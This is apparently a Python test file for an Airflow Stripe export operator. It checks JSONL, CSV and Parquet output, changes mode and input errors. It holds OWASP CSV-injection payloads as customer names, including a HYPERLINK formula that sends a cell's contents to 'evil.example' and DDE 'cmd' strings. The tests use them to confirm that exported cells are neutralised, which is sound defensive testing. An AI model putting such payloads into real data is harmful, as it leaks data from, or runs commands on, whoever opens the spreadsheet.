"""StripeExportOperator: any resource, three formats, and changes through events.

Against localstripe behind the ledger front (tests/servers/stripe_reporting.py), which
answers ``created[gte]``/``[lt]`` windows and ``type`` wildcards on events the way Stripe
does (newest first); the operator sends only those filters.
"""

from __future__ import annotations

import csv
import json
import time
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
import stripe

from airflow_provider_stripe.errors import StripeInputError
from airflow_provider_stripe.exports.resources import RESOURCES
from airflow_provider_stripe.operators.exports import StripeExportOperator
from tests.integration.stripe_task_context import TEST_KEY, stripe_connection, task_context
from tests.servers.stripe_reporting import LedgerFront

pytestmark = pytest.mark.timeout(120)


def _client(url: str) -> stripe.StripeClient:
    return stripe.StripeClient(TEST_KEY, base_addresses={"api": url})


def _next_second(after: float) -> int:
    """localstripe's ``created`` has 1 s resolution: wait until a strictly later second."""
    while time.time() < int(after) + 1:
        time.sleep(0.05)
    return int(time.time())


def _export(conn: str, tmp_path: Path, name: str, **kwargs: Any) -> tuple[dict[str, Any], Path]:
    target = tmp_path / name
    result = StripeExportOperator(task_id="export", stripe_conn_id=conn, path=str(target), **kwargs).execute(
        task_context()
    )
    return result, target


def test_customers_in_every_format(
    ledger_front: LedgerFront, localstripe: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    client = _client(localstripe)
    before = client.v1.customers.create({"email": "before@example.com"})
    start = _next_second(before.created)
    inside = [
        client.v1.customers.create({"email": f"c{i}@example.com", "name": f"Client {i}", "metadata": {"n": str(i)}})
        for i in range(5)
    ]
    end = _next_second(time.time())
    client.v1.customers.create({"email": "after@example.com"})
    conn = stripe_connection(monkeypatch, ledger_front.url)
    window = {"resource": "customers", "created_gte": start, "created_lt": end, "page_size": 2}

    result, jsonl = _export(conn, tmp_path, "c.jsonl", **window)
    assert result["count"] == 5
    rows = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert [r["id"] for r in rows] == [c.id for c in reversed(inside)]  # newest first, whole objects
    assert rows[0]["metadata"] == {"n": "4"}

    columns = [name for name, _ in RESOURCES["customers"].columns]
    _, csv_path = _export(conn, tmp_path, "c.csv", file_format="csv", **window)
    with csv_path.open(newline="") as handle:
        table = list(csv.DictReader(handle))
    assert list(table[0]) == columns
    assert {r["email"] for r in table} == {f"c{i}@example.com" for i in range(5)}
    assert json.loads(table[0]["metadata"]) == {"n": "4"}
    assert {r["livemode"] for r in table} == {"False"}
    created = {c.id: c.created for c in inside}
    assert {r["id"]: r["created"] for r in table} == {
        i: datetime.fromtimestamp(t, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ") for i, t in created.items()
    }
    _, epoch_csv = _export(conn, tmp_path, "e.csv", file_format="csv", csv_timestamps="epoch", **window)
    with epoch_csv.open(newline="") as handle:
        assert {r["id"]: int(r["created"]) for r in csv.DictReader(handle)} == created

    _, parquet = _export(conn, tmp_path, "c.parquet", file_format="parquet", **window)
    read = pq.read_table(parquet)
    assert read.schema.names == columns
    created_type = read.schema.field("created").type
    assert pa.types.is_timestamp(created_type) and created_type.tz == "UTC", created_type
    assert str(read.schema.field("livemode").type) == "bool"
    ids, times = read.column("id").to_pylist(), read.column("created").to_pylist()
    assert {i: int(t.timestamp()) for i, t in zip(ids, times, strict=True)} == created
    assert sorted(read.column("id").to_pylist()) == sorted(c.id for c in inside)
    assert not list(tmp_path.glob(".*.part"))

    # An empty window still writes a Parquet file with the full schema.
    result, empty = _export(
        conn, tmp_path, "none.parquet", resource="customers", file_format="parquet", created_gte=1, created_lt=2
    )
    assert result["count"] == 0 and pq.read_table(empty).schema.names == columns


@pytest.mark.parametrize("resource", ["refunds", "payment_intents", "events"])
def test_other_resources_export(
    resource: str, ledger_front: LedgerFront, localstripe: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import pyarrow.parquet as pq

    client = _client(localstripe)
    start = int(time.time())
    charge = client.v1.charges.create({"amount": 4000, "currency": "eur", "source": "pm_card_visa"})
    client.v1.refunds.create({"charge": charge.id, "amount": 1500})
    client.v1.payment_intents.create({"amount": 999, "currency": "eur", "payment_method_types": ["card"]})
    client.v1.customers.create({"email": "events@example.com"})  # localstripe emits customer events
    conn = stripe_connection(monkeypatch, ledger_front.url)
    result, target = _export(
        conn, tmp_path, f"{resource}.parquet", resource=resource, file_format="parquet",
        created_gte=start, created_lt=int(time.time()) + 1,
    )  # fmt: skip
    table = pq.read_table(target).to_pylist()
    assert result["count"] == len(table) >= 1
    assert {r["object"] for r in table} == {RESOURCES[resource].object}
    if resource == "refunds":
        assert [(r["charge"], r["amount"]) for r in table] == [(charge.id, 1500)]


@pytest.mark.parametrize("max_workers", [1, 8])
def test_changes_mode_writes_each_changed_object_once_in_its_latest_state(
    max_workers: int, ledger_front: LedgerFront, localstripe: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # localstripe emits customer events (not charge events): a customer stands in for any resource.
    client = _client(localstripe)
    old = client.v1.customers.create({"email": "old@example.com"})
    untouched = client.v1.customers.create({"email": "untouched@example.com"})
    start = _next_second(max(old.created, untouched.created))
    client.v1.customers.update(old.id, {"email": "first-change@example.com"})
    client.v1.customers.update(old.id, {"email": "latest@example.com", "metadata": {"tier": "gold"}})
    new = client.v1.customers.create({"email": "new@example.com"})
    end = _next_second(time.time())
    client.v1.customers.update(new.id, {"email": "after-the-window@example.com"})
    conn = stripe_connection(monkeypatch, ledger_front.url)

    result, target = _export(
        conn, tmp_path, "changed.jsonl", resource="customers", mode="changes", created_gte=start, created_lt=end,
        page_size=2, max_workers=max_workers,
    )  # fmt: skip
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    assert sorted(r["id"] for r in rows) == sorted([old.id, new.id])  # each once; untouched not at all
    assert result["count"] == 2
    by_id = {r["id"]: r for r in rows}
    assert (by_id[old.id]["email"], by_id[old.id]["metadata"]) == ("latest@example.com", {"tier": "gold"})
    assert by_id[new.id]["email"] == "new@example.com"  # its state at the end of the window
    events = [r for r in ledger_front.records if r.path == "/v1/events"]
    assert all(r.status == 200 for r in events)
    if max_workers == 1:
        assert len(events) == 2  # 3 events in the window, 2 per page
    else:  # a first page with more, then each second of the window as its own slice
        assert len(events) >= 1 + (end - start)


def test_changes_beyond_thirty_days_fail_clearly(
    ledger_front: LedgerFront, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    conn = stripe_connection(monkeypatch, ledger_front.url)
    now = int(time.time())
    with pytest.raises(StripeInputError, match="30 days") as info:
        _export(
            conn, tmp_path, "x.jsonl", resource="charges", mode="changes", created_gte=now - 31 * 86_400, created_lt=now
        )
    assert info.value.field == "created_gte"
    assert not ledger_front.records and not list(tmp_path.iterdir())


def test_bad_resource_format_or_mode_fail_at_parse_time() -> None:
    for kwargs, field in (
        ({"resource": "charge"}, "resource"),
        ({"resource": "charges", "file_format": "xlsx"}, "file_format"),
        ({"resource": "charges", "mode": "updated"}, "mode"),
        ({"resource": "balance_transactions", "mode": "changes"}, "mode"),
    ):
        with pytest.raises(StripeInputError) as info:
            StripeExportOperator(task_id="e", path="/tmp/x", **kwargs)
        assert info.value.field == field


HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""Customer names a spreadsheet would run as formulas (OWASP's CSV injection examples)."""


def test_csv_export_neutralises_formulas_as_a_spreadsheet_reads_them(
    ledger_front: LedgerFront, localstripe: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Every formula-leading text cell is prefixed with ``'``.

    Read back with the csv module, as a spreadsheet splits cells: the first character of each
    cell is what decides whether it is evaluated.
    """
    import pyarrow.parquet as pq

    client = _client(localstripe)
    start = _next_second(time.time() - 1)
    for i, name in enumerate(HOSTILE):
        client.v1.customers.create({"name": name, "description": f"=1+{i}", "email": f"h{i}@x.io"})
    client.v1.customers.create({"name": "Plain Name", "description": "a - b"})
    end = _next_second(time.time())
    conn = stripe_connection(monkeypatch, ledger_front.url)
    window = {"resource": "customers", "created_gte": start, "created_lt": end}

    def cells(path: Path) -> list[dict[str, str]]:
        with path.open(newline="", encoding="utf-8") as handle:
            return list(csv.DictReader(handle))

    _, safe = _export(conn, tmp_path, "safe.csv", file_format="csv", **window)
    table = cells(safe)
    assert len(table) == len(HOSTILE) + 1
    triggers = ("=", "+", "-", "@", "\t", "\r")
    text_columns = [name for name, kind in RESOURCES["customers"].columns if kind == "string"]
    for row in table:
        for column in text_columns:
            assert not row[column].startswith(triggers), (column, row[column])
    by_email = {r["email"]: r for r in table}
    for i, name in enumerate(HOSTILE):
        row = by_email[f"h{i}@x.io"]
        assert (row["name"], row["description"]) == ("'" + name, f"'=1+{i}")
    plain = next(r for r in table if r["name"] == "Plain Name")
    assert plain["description"] == "a - b"

    # Machine readers turn it off and get Stripe's values as they are; JSON Lines and Parquet always do.
    _, raw = _export(conn, tmp_path, "raw.csv", file_format="csv", escape_csv_formulas=False, **window)
    assert sorted(r["name"] for r in cells(raw)) == sorted([*HOSTILE, "Plain Name"])
    _, jsonl = _export(conn, tmp_path, "c.jsonl", **window)
    assert sorted(json.loads(line)["name"] for line in jsonl.read_text().splitlines()) == sorted(
        [*HOSTILE, "Plain Name"]
    )
    _, parquet = _export(conn, tmp_path, "c.parquet", file_format="parquet", **window)
    assert sorted(pq.read_table(parquet).column("name").to_pylist()) == sorted([*HOSTILE, "Plain Name"])


def test_csv_export_keeps_negative_amounts_as_numbers(
    ledger_front: LedgerFront, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A refund's ``-500`` is a number, left as is; a description ``-5 refund`` is text, neutralised."""
    from airflow_provider_stripe.operators.reconciliation import StripePayoutReconciliationOperator

    items = [
        {"type": "charge", "amount": 2000, "fee": 88, "description": '=HYPERLINK("https://evil.example")'},
        {"type": "refund", "amount": -500, "reporting_category": "refund", "description": "-5 refund"},
    ]
    payout = ledger_front.ledger.add_automatic_payout(items)
    conn = stripe_connection(monkeypatch, ledger_front.url)
    target = tmp_path / "recon.csv"
    StripePayoutReconciliationOperator(
        task_id="recon", stripe_conn_id=conn, path=str(target), payout_ids=payout["id"], file_format="csv"
    ).execute(task_context())
    with target.open(newline="", encoding="utf-8") as handle:
        rows = {r["type"]: r for r in csv.DictReader(handle)}
    refund = rows["refund"]
    assert (refund["amount"], refund["net"], refund["description"]) == ("-500", "-500", "'-5 refund")
    assert rows["charge"]["description"] == '\'=HYPERLINK("https://evil.example")'
    assert rows["payout"]["amount"] == str(-(2000 - 88 - 500))  # the payout's own transaction: a debit
